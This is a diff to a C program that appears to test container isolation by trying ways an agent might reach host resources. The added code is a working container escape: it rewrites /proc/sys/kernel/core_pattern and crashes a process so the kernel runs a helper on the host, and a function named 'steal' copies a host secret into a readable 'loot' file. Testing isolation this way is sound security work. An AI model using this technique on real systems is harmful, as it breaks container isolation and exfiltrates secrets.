@@ -1,4 +1,7 @@
-/* The agent's own: its maps, programs, links, pins and files. The same on what is nobody's shows that the way works. */
+/*
+ * The host's own: a program that the kernel starts for it. And the agent's own: its maps, programs, links, pins and files;
+ * the same on what is nobody's shows that those ways work.
+ */
 #include <dirent.h>
 #include <linux/bpf.h>
 
@@ -73,6 +76,42 @@ static void way_policy(void) { write_to(given("POLICY")); }
 static void way_state(void) { write_to(given("STATE")); }
 static void way_journal(void) { write_to(given("JOURNAL")); }
 
+/* In the host's cgroup and mounts: the secret is copied to where the container can read it. */
+void steal(const char *self)
+{
+	const char *here = path("%.*s", (int)(strrchr(self, '/') - self), self);
+	int from = open(path("%s/../../safe-data/_data/secret", here), O_RDONLY);
+	int to = open(path("%s/loot", here), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+	char bytes[SECRET_MAX];
+	ssize_t n = read(from, bytes, sizeof(bytes));
+
+	exit(n < 1 || write(to, bytes, n) != n);
+}
+
+/* A process dies, and the kernel starts the program of /proc/sys/kernel/core_pattern, which is nobody's child. */
+static void way_core_pattern(void)
+{
+	const char *setting = "/proc/sys/kernel/core_pattern";
+	char before[256] = "", bytes[SECRET_MAX];
+	int loot = -1;
+	ssize_t n = 0;
+
+	unlink(FREE "/loot");
+	need(read(need(open(setting, O_RDONLY), setting), before, sizeof(before) - 1), setting);
+	write_text(setting, path("|%s/../../free-data/_data/helper steal", given("ON_HOST")), setting);
+	if (!fork())
+		abort();
+	need(wait(0), "the one that dies");
+	for (int tries = 0; n < 1 && tries < 2000; tries++) {
+		usleep(10000);
+		loot = loot < 0 ? open(FREE "/loot", O_RDONLY) : loot;
+		n = loot < 0 ? 0 : pread(loot, bytes, sizeof(bytes), 0);
+	}
+	write_text(setting, before, setting);
+	errno = ENOENT;
+	reached(bytes, attempt(n < 1 ? -1 : n));
+}
+
 static int load_return_zero(void)
 {
 	struct bpf_insn code[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0}, {.code = BPF_JMP | BPF_EXIT}};
@@ -135,6 +174,7 @@ void identify(const char *directory)
 }
 
 const struct way agent_ways[] = {
+	{"core_pattern", way_core_pattern},
 	{"obj-get", way_obj_get},
 	{"map-by-id", way_map_by_id},
 	{"prog-by-id", way_prog_by_id},
